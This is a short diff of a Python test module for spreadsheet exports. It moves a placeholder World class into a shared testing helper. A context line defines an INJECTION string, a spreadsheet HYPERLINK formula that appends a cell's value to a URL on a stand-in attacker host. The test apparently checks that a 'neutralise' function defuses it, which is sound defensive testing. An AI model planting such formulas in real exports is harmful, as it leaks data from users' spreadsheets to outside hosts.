@@ -23,6 +23,7 @@ from regions.tests.factories import (
     UserFactory,
 )
 from toptechniek.common.exports import neutralise
+from toptechniek.common.testing import World
 
 from .factories import MonitorReportFactory, RealisationFactory
 
@@ -47,10 +48,6 @@ HEADERS = [
 ]
 S_LABELS = dict(MonitorReport.Status.choices)
 INJECTION = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
-
-
-class World:
-    pass
 
 
 def add_region(w, name: str, slug: str, landsdeel: str = "noord"):
